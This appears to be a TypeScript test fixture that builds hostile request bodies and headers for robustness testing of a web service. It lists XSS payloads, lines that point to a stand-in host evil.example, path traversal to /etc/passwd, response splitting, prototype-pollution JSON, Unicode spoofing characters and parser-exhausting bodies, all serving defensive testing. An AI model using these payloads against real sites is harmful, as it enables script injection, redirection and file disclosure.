/** What a stranger may send so that something else than a page comes of it. */

const SCRIPTS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  "javascript:alert(1)",
  "</script><script>alert(1)</script>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><button>go</button></form>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<math><mi xlink:href=javascript:alert(1)>x",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<!--<img src=--><img src=x onerror=alert(1)//>",
  "]]><script>alert(1)</script>",
  "data:text/html,<script>alert(1)</script>",
  "<object data=//evil.example/x.swf>",
  "<body onload=alert(1)>",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "__proto__",
];

const ODD = [
  "\u202egnp.exe",
  "pay\u200bpal\u200d\u2060",
  "\u2066left\u2069 \u2067right\u2069",
  "\u0000\u0001\u0007\u001b[31mred",
  "\ufeffbom",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "مرحبا بالعالم",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "\u{e0041}\u{e0042}tags",
  "﷽﷽﷽﷽﷽﷽﷽﷽",
  "a".repeat(20_000),
  " ".repeat(5_000),
  "\r\n\r\nHTTP/1.1 200 OK",
  "../../../../etc/passwd",
  "%00%0a%0d%3cscript%3e",
  "toString",
];

export interface Hostile {
  readonly name: string;
  readonly body: string | Uint8Array;
  readonly type?: string;
  readonly headers?: Record<string, string>;
  readonly contentType?: string;
}

const json = (value: unknown) => JSON.stringify(value);
const nested = (open: string, close: string, times: number, inner = "") =>
  open.repeat(times) + inner + close.repeat(times);

/** Only what HTTP lets into a header. */
const asHeader = (text: string) =>
  text
    .replace(/[^\x20-\x7e]/g, "?")
    .slice(0, 2_000)
    .trim() || "x";

const SHAPES: readonly Hostile[] = [
  { name: "5 MB of one string", body: json({ action: "opened", text: "x".repeat(5_000_000) }) },
  { name: "5 MB of markup", body: json({ action: "opened", text: "<b>".repeat(1_700_000) }) },
  { name: "5 MB of lines", body: json({ action: "opened", text: "a\n".repeat(1_600_000) }) },
  { name: "10,000 keys", body: json(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`key-${i}`, i]))) },
  { name: "100,000 numbers", body: json({ list: Array.from({ length: 100_000 }, (_, i) => i) }) },
  { name: "nested 50,000 lists", body: nested("[", "]", 50_000) },
  { name: "nested 20,000 objects", body: nested('{"a":', "}", 20_000, "1") },
  { name: "nested wide", body: nested('[1,2,{"x":', "}]", 2_000, "null") },
  {
    name: "numbers that no double holds",
    body: '{"id":12345678901234567890,"n":1e999,"m":-0,"f":0.1000000000000000055511151231257827}',
  },
  {
    name: "one key twice",
    body: '{"a":1,"a":2,"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  },
  { name: "half a surrogate", body: '{"a":"\\ud800","b":"\\udc00\\ud800"}' },
  {
    name: "binary",
    body: Uint8Array.from({ length: 4_096 }, (_, i) => (i * 7) % 256),
    contentType: "application/octet-stream",
  },
  { name: "no UTF-8", body: Uint8Array.of(0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d) },
  { name: "UTF-16", body: Uint8Array.from(Buffer.from('\ufeff{"a":1}', "utf16le")) },
  { name: "nothing at all", body: "" },
  { name: "a blank", body: " \n\t " },
  { name: "a page", body: "<!doctype html><script>alert(1)</script>", contentType: "text/html" },
  {
    name: "an image with script",
    body: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    contentType: "image/svg+xml",
  },
  {
    name: "a form",
    body: "payload=%7B%22a%22%3A%22%3Cimg+src%3Dx+onerror%3Dalert(1)%3E%22%7D",
    contentType: "application/x-www-form-urlencoded",
  },
];

/** Each script and each oddity in a body's value, a body's name, a header and a path, and bodies of odd shapes. */
export const HOSTILE: readonly Hostile[] = [
  ...SCRIPTS.flatMap((text, i): Hostile[] => [
    { name: `script ${i} in a value`, body: json({ action: "opened", text, list: [text], deep: { [text]: text } }) },
    { name: `script ${i} as text`, body: text, contentType: "text/plain" },
    {
      name: `script ${i} in headers`,
      body: json({ action: "opened" }),
      headers: { "x-note": asHeader(text), "user-agent": asHeader(text) },
    },
  ]),
  ...ODD.flatMap((text, i): Hostile[] => [
    { name: `odd ${i} in a value`, body: json({ action: "opened", text, [text]: text }) },
    { name: `odd ${i} in the type`, body: json({ action: text }), type: "issues" },
    { name: `odd ${i} as text`, body: text, contentType: "text/plain" },
  ]),
  ...SHAPES,
];

/** Types as a provider would name them; `action` goes into it as well. */
export const HOSTILE_TYPES = SCRIPTS.map(asHeader);
